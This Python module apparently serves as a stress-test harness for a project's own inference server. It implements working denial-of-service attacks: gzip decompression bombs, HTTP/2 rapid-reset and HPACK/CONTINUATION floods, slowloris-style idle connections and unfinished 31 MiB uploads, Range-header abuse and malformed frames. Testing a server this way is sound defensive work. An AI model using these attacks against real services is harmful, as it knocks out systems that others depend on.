"""The attacks: what each sends, over plain sockets. The standard library alone.

Each attack is a function(target, seconds) that goes on for that long and swallows what the server
answers. Attackers come from 127.0.0.2, so that limits for one address meet them alone.
"""

import contextlib
import functools
import json
import os
import random
import select
import socket
import struct
import sys
import threading
import time
import typing
import zlib

sys.path.insert(0, os.path.join(os.path.dirname(__file__), '..', 'server'))
from raw_http2 import (CANCEL, CONTINUATION, END_HEADERS, GENERATE, HEADERS, HEALTH_WATCH,
                       REFLECTION, RST_STREAM, SETTINGS, WINDOW_UPDATE, Http2, ask_health, frame,
                       header_block, message)

SOURCE = '127.0.0.2'
SERVICE = '/lssar.v1.Inference/'
MIB = 1 << 20


class Target(typing.NamedTuple):
    """Where the attack goes: the server's ports, or those of HAProxy before it."""
    host: str
    grpc_port: int
    http_port: int


def http_socket(target: Target, timeout: float = 30) -> socket.socket:
    return socket.create_connection((target.host, target.http_port), timeout,
                                    source_address=(SOURCE, 0))


def http2(target: Target, **flags) -> Http2:
    return Http2(target.host, target.grpc_port, source=SOURCE, **flags)


def post(path: str, body: bytes, headers: str = '') -> bytes:
    return (f'POST {path} HTTP/1.1\r\nHost: localhost\r\n{headers}'
            f'Content-Type: application/json\r\n'
            f'Content-Length: {len(body)}\r\n\r\n').encode() + body


def quietly(attack: typing.Callable[[], None], until: float) -> None:
    """Repeats the attack; a closed connection is what an attacker has to expect."""
    while time.monotonic() < until:
        try:
            attack()
        except (OSError, StopIteration):
            time.sleep(0.01)


def in_threads(count: int, seconds: float, *attacks: typing.Callable[[], None]) -> None:
    """Each attack in `count` threads of its own."""
    until = time.monotonic() + seconds
    threads = [threading.Thread(target=quietly, args=(attack, until), daemon=True)
               for attack in attacks * count]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(max(0.0, until + 1 - time.monotonic()))


class InTurn:
    """One attack after the other, each for its part of the time."""

    def __init__(self, *parts: typing.Callable[['Target', float], None]):
        self.parts = parts

    def __call__(self, target: Target, seconds: float) -> None:
        for part in self.parts:
            part(target, seconds / len(self.parts))


# Protobuf's wire format, as far as the attacks need it.
def varint(number: int) -> bytes:
    out = b''
    while number > 0x7f:
        out += bytes([number & 0x7f | 0x80])
        number >>= 7
    return out + bytes([number])


def field(number: int, value: bytes | str) -> bytes:
    data = value.encode() if isinstance(value, str) else value
    return varint(number << 3 | 2) + varint(len(data)) + data


def gzip_bomb(inflated_bytes: int) -> bytes:
    """A gzip stream of zeros, made of one block again and again; its checksum is wrong, which only
    who has inflated all of it can know."""
    unit = 16 * MIB
    engine = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = engine.compress(bytes(unit)) + engine.flush(zlib.Z_FULL_FLUSH)
    return (b'\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03' + block * (inflated_bytes // unit)
            + b'\x03\x00' + bytes(8))


def idle_connections(target: Target, seconds: float) -> None:
    """Row 1: 1,100 idle connections on each port, opened, held and closed."""
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        clients = []
        for i in range(2200):
            port = target.grpc_port if i % 2 else target.http_port
            with contextlib.suppress(OSError):
                clients.append(socket.create_connection((target.host, port), 2,
                                                        source_address=(SOURCE, 0)))
            if time.monotonic() > until:
                break
        time.sleep(min(1.0, max(0.0, until - time.monotonic())))
        for client in clients:
            client.close()


def http_compressed(target: Target, seconds: float) -> None:
    """Row 2: small compressed bodies that inflate to GiBs: gzip, deflate and br."""
    gzip = gzip_bomb(2048 * MIB)
    # A brotli stream cannot be made with the standard library; the refusal does not read it.
    bodies = [('gzip', gzip), ('deflate', gzip[10:]), ('br', bytes(3233))]

    def attack() -> None:
        for encoding, body in bodies:
            with http_socket(target, 10) as client:
                client.sendall(post('/v1/completions', body, f'Content-Encoding: {encoding}\r\n'))
                client.recv(4096)

    in_threads(4, seconds, attack)


def grpc_compressed(target: Target, seconds: float) -> None:
    """Row 3: a gzip message of 6.1 MB that inflates to 6.1 GiB."""
    bomb = gzip_bomb(6272 * MIB)

    def attack() -> None:
        with http2(target) as client:
            send_large(client, SERVICE + 'Generate', bomb, compressed=True, grpc_encoding='gzip')

    in_threads(2, seconds, attack)


def grpc_calls(target: Target, seconds: float, count: int, rpc: str, request: bytes) -> None:
    def attack() -> None:
        with http2(target) as client:
            send_large(client, SERVICE + rpc, request)

    in_threads(count, seconds, attack)


def send_large(client: Http2, path: str, request: bytes, leave_out: int = 0,
               compressed: bool = False, **headers: str) -> None:
    """A call whose message is sent as fast as the server's flow control allows, less the last
    `leave_out` bytes. Ends with the call, or when the server says nothing for 30 s."""
    stream = client.take_stream()
    client.send(frame(HEADERS, END_HEADERS, stream, header_block(path, **headers)))
    data = message(request, compressed)
    data = data[:len(data) - leave_out]
    sent, window, connection_window = 0, 65535, 65535
    frames = client.read_frames(30)
    initial = 65535
    while True:
        size = min(16384, window, connection_window, len(data) - sent)
        if size > 0:
            is_last = leave_out == 0 and sent + size == len(data)
            if not client.send(frame(0, 1 if is_last else 0, stream, data[sent:sent + size])):
                return
            sent += size
            window -= size
            connection_window -= size
            continue
        kind, flags, number, payload = next(frames)
        if kind == WINDOW_UPDATE:
            added = struct.unpack('>I', payload)[0]
            if number:
                window += added
            else:
                connection_window += added
        elif kind == SETTINGS and not flags & 1:
            for at in range(0, len(payload), 6):
                name, value = struct.unpack('>HI', payload[at:at + 6])
                if name == 4:
                    window += value - initial
                    initial = value
        elif kind == RST_STREAM or (kind == HEADERS and flags & 1):
            return


def score_continuations(target: Target, seconds: float) -> None:
    """Row 4: Score of 34 KB with 1,024 continuations, twice at a time."""
    text = ('the old house ' * 1900)[:26000]
    item = field(1, field(1, text)) + b''.join(field(2, field(1, f' w{i}')) for i in range(1024))
    grpc_calls(target, seconds, 2, 'Score', field(1, item))


def tokenize_8_mib(target: Target, seconds: float) -> None:
    """Row 4: Tokenize of 8 MiB, twice at a time."""
    grpc_calls(target, seconds, 2, 'Tokenize', field(1, 'the old house. ' * (8 * MIB // 15)))


def generate_31_mib(target: Target, seconds: float) -> None:
    """Row 4: a prompt of 31 MiB."""
    grpc_calls(target, seconds, 1, 'Generate', field(1, 'the old house. ' * (31 * MIB // 15)))


def reset_streams(target: Target, seconds: float, data: bytes) -> None:
    block = header_block('/no.such/Method')

    def attack() -> None:
        with http2(target, timeout=5) as client:
            client.socket.settimeout(5)
            for first in range(1, 1 << 30, 200):
                burst = b''.join(
                    frame(HEADERS, END_HEADERS, stream, block)
                    + (frame(0, 0, stream, data) if data else b'')
                    + frame(RST_STREAM, 0, stream, struct.pack('>I', CANCEL))
                    for stream in range(first, first + 200, 2))
                if not client.send(burst):
                    return

    in_threads(2, seconds, attack)


def rapid_reset(target: Target, seconds: float) -> None:
    """Row 5: streams that are reset at once, on two connections."""
    reset_streams(target, seconds, b'')


def rapid_reset_with_data(target: Target, seconds: float) -> None:
    """Row 5, with the first bytes of a message before each reset: it passes wait-for-body."""
    reset_streams(target, seconds, bytes(5))


def hpack_flood(target: Target, seconds: float) -> None:
    """Row 6: header blocks whose integers never end, 11 MB on each of 4 connections."""
    def attack() -> None:
        with http2(target, timeout=5) as client:
            client.send(frame(HEADERS, 0, 1, b'\x00\x7f' + b'\x80' * 16000))
            for _ in range(11 * MIB // 16384):
                if not client.send(frame(CONTINUATION, 0, 1, b'\x80' * 16384)):
                    return
            client.is_closed(2)

    in_threads(4, seconds, attack)


def idle_http(target: Target, seconds: float) -> None:
    """Row 9: 200 idle HTTP connections, half of them with a request begun."""
    clients = []
    for i in range(200):
        with contextlib.suppress(OSError):
            client = http_socket(target)
            if i % 2:
                client.sendall(b'POST /v1/completions HTTP/1.1\r\nHost: localhost\r\n')
            clients.append(client)
    time.sleep(seconds)
    for client in clients:
        client.close()


def reflection_streams(target: Target, seconds: float) -> None:
    """Row 11: 8,000 idle streams of the reflection service."""
    clients = []
    for _ in range(40):
        with contextlib.suppress(OSError):
            client = http2(target)
            for _ in range(200):
                client.start(REFLECTION)
            clients.append(client)
    time.sleep(seconds)
    for client in clients:
        client.close()


def idle_calls(target: Target, seconds: float) -> None:
    """Row 19: 5,000 calls a second that send no request or watch health, 1,000 a connection."""
    begin = time.monotonic()
    clients = []
    while (elapsed := time.monotonic() - begin) < seconds:
        if len(clients) > elapsed * 5:
            time.sleep(0.01)
            continue
        path, payload = (GENERATE, None) if len(clients) % 2 else (HEALTH_WATCH, b'')
        with contextlib.suppress(OSError):
            clients.append(http2(target))
            for _ in range(1000):
                clients[-1].start(path, payload)
    for client in clients:
        client.close()


def large_reflection(target: Target, seconds: float) -> None:
    """Row 20: requests of 31 MiB to the reflection service, whose answers nobody reads."""
    name = bytes(31 * MIB)
    data = message(field(3, name))

    def once() -> None:
        with http2(target) as client:
            client.upload(client.start(REFLECTION), data, end=False)
            time.sleep(10)

    in_threads(16, seconds, once)


def metrics_range(target: Target, seconds: float) -> None:
    """Row 13: GET /metrics with a Range header of 8 KB, 16 answers unread."""
    ranges = ','.join(f'{i}-' for i in range(1600))[:8000].rsplit(',', 1)[0]
    request = f'GET /metrics HTTP/1.1\r\nHost: localhost\r\nRange: bytes={ranges}\r\n\r\n'.encode()
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        clients = []
        for _ in range(16):
            with contextlib.suppress(OSError):
                client = http_socket(target)
                client.sendall(request)
                clients.append(client)
        time.sleep(min(1.0, max(0.0, until - time.monotonic())))
        for client in clients:
            client.close()


def http_in_pieces(target: Target, seconds: float) -> None:
    """Row 17: HTTP requests, good and bad, whose packets end anywhere."""
    body = b'{"prompt": "a", "max_tokens": 1}'
    head = b'POST /v1/completions HTTP/1.1\r\nHost: localhost\r\n'
    chunked = head + b'Transfer-Encoding: chunked\r\n\r\n'
    requests = (
        chunked + b'0\r\n\r\n',
        chunked + b'0\r\nTrailer: a\r\n\r\n',
        chunked + b'0\r\nno trailer\r\n\r\n',
        chunked + b'%x;a=b\r\n%s\r\n0\r\n\r\n' % (len(body), body),
        head + b'Content-Length: %d\r\n\r\n%s' % (len(body), body),
        head + b'Content-Length: 1\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n',
        b'GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n',
        b'GET ' + b'x' * 20000)

    def once() -> None:
        request = random.choice(requests)
        cuts = sorted(random.sample(range(1, len(request)), random.randint(1, 4)))
        with http_socket(target, 5) as client:
            client.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            for begin, end in zip([0, *cuts], [*cuts, len(request)]):
                client.sendall(request[begin:end])
                time.sleep(0.001)
            client.recv(100)

    in_threads(8, seconds, once)


def http_pipelined(target: Target, seconds: float) -> None:
    """Row 18: small requests without end on 32 connections, sent before the answers to the earlier
    ones, which are read."""
    requests = b'GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n' * 4096
    until = time.monotonic() + seconds
    with contextlib.ExitStack() as stack:
        clients = [stack.enter_context(http_socket(target)) for _ in range(32)]
        unsent = {client: requests for client in clients}
        for client in clients:
            client.setblocking(False)
        while time.monotonic() < until:
            readable, writable, _ = select.select(clients, clients, [], 1)
            for client in writable:
                rest = unsent[client] or requests  # a request is never cut
                with contextlib.suppress(BlockingIOError):
                    unsent[client] = rest[client.send(rest):]
            for client in readable:
                with contextlib.suppress(BlockingIOError):
                    client.recv(1 << 16)


def long_role(target: Target, seconds: float) -> None:
    """Row 14: a chat role of 30 MiB, over gRPC and HTTP."""
    chat = field(3, field(1, field(1, 'r' * (30 * MIB)) + field(2, 'x')))
    body = json.dumps({'messages': [{'role': 'r' * (30 * MIB), 'content': 'x'}]}).encode()

    def over_http() -> None:
        with http_socket(target) as client:
            client.sendall(post('/v1/chat/completions', body))
            answer = client.recv(1 << 20)
            if len(answer) > 64 << 10:
                raise AssertionError('the answer quotes the role')

    thread = threading.Thread(target=in_threads, args=(1, seconds, over_http), daemon=True)
    thread.start()
    grpc_calls(target, seconds, 1, 'Generate', chat)
    thread.join()


def unfinished_uploads(target: Target, seconds: float) -> None:
    """60 uploads of 31 MiB that miss their last byte, held open: gRPC's buffers are shared."""
    request = field(1, 'a' * (31 * MIB))
    until = time.monotonic() + seconds

    def upload() -> None:
        with contextlib.suppress(OSError, StopIteration):
            with http2(target) as client:
                client.socket.settimeout(max(0.1, until - time.monotonic()))
                send_large(client, SERVICE + 'Generate', request, leave_out=1)

    threads = [threading.Thread(target=upload, daemon=True) for _ in range(60)]
    for thread in threads:
        thread.start()
    time.sleep(seconds)


def unfinished_http_uploads(target: Target, seconds: float) -> None:
    """Row 21: 60 HTTP bodies of 31 MiB that miss their last byte, held open."""
    body = post('/v1/completions', b'a' * (31 * MIB))[:-1]
    until = time.monotonic() + seconds

    def once() -> None:
        with http_socket(target) as client:
            client.sendall(body)
            client.settimeout(max(0.1, until - time.monotonic()))
            client.recv(100)

    in_threads(60, seconds, once)


def held_scores(target: Target, seconds: float) -> None:
    """Row 22: Score requests of 30 MB whose answers nobody reads: all but the first item waits."""
    def tokens(ids: bytes) -> bytes:
        return field(2, field(1, ids))

    def item(length: int, count: int) -> bytes:
        return field(1, field(1, tokens(b'\5')) + field(2, tokens(bytes(length))) * count)

    request = b'\x10\1\x18\x14' + item(6000, 1) + item(16000, 1000) + item(16000, 900)
    until = time.monotonic() + seconds

    def once() -> None:
        with http2(target) as client:
            client.upload(client.start(SERVICE + 'Score'), message(request))
            time.sleep(max(0.0, until - time.monotonic()))

    in_threads(12, seconds, once)


def unread_replies(target: Target, seconds: float) -> None:
    """Row 23: replies of some 10 MB, on both ports, that nobody reads."""
    text = 'a b ' * MIB
    tokenize = message(field(1, text))
    echoes = json.dumps({'prompt': ['old ' * 16000] * 31, 'n': 16, 'echo': True, 'max_tokens': 0})
    until = time.monotonic() + seconds

    def over_grpc() -> None:
        with http2(target) as client:
            while time.monotonic() < until:
                client.upload(client.start(SERVICE + 'Tokenize'), tokenize, seconds=3)

    def over_http(path: str, body: str) -> None:
        with http_socket(target) as client:
            client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            client.sendall(post(path, body.encode()))
            time.sleep(max(0.0, until - time.monotonic()))

    in_threads(10, seconds, over_grpc,
               functools.partial(over_http, '/tokenize', json.dumps({'prompt': text})),
               functools.partial(over_http, '/v1/completions', echoes))


def mixed_frames(target: Target, seconds: float) -> None:
    """Frames of random kinds, flags, streams and bytes after a good preface."""
    def attack() -> None:
        with http2(target, timeout=2) as client:
            for _ in range(200):
                head = os.urandom(6)
                payload = os.urandom(head[0] % 64)
                if not client.send(frame(head[1] % 11, head[2], head[3] % 16, payload)):
                    return
                if head[4] < 8:
                    client.start(SERVICE + 'Generate', os.urandom(head[5] % 64))

    in_threads(2, seconds, attack)


def many_requests(target: Target, count: int, seconds: float) -> tuple[int, float]:
    """Sends small requests, good and bad, pipelined on a few connections, until `count` have been
    answered or the time is over. Returns the number of answers and the seconds."""
    get = b'GET /%s HTTP/1.1\r\nHost: localhost\r\n\r\n'
    batch = [get % path for path in (b'healthz', b'v1/models', b'no-such-path')] + [
        post('/tokenize', body) for body in (b'{"prompt": "Hi"}', b'{"prompt": 1}', b'{"pro')] + [
        post('/v1/completions', b'{"prompt": "Hi", "max_tokens": 0}'),
        post('/v1/completions', b'{"prompt": "Hi", "temperature": -1}')]
    data = b''.join(batch) * 8
    answers_of_data = len(batch) * 8
    begin = time.monotonic()
    until = begin + seconds
    counts = [0] * 4

    def send(number: int) -> None:
        with http_socket(target) as client:
            while time.monotonic() < until and sum(counts) < count:
                client.sendall(data)
                received = 0
                tail = b''
                while received < answers_of_data:
                    chunk = client.recv(1 << 16)
                    if not chunk:
                        raise OSError('closed')
                    text = tail + chunk
                    received += text.count(b'HTTP/1.1 ')
                    tail = text[-8:]
                counts[number] += answers_of_data

    def keep_sending(number: int) -> None:
        while time.monotonic() < until and sum(counts) < count:
            with contextlib.suppress(OSError):
                send(number)

    threads = [threading.Thread(target=keep_sending, args=(number,)) for number in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return sum(counts), time.monotonic() - begin
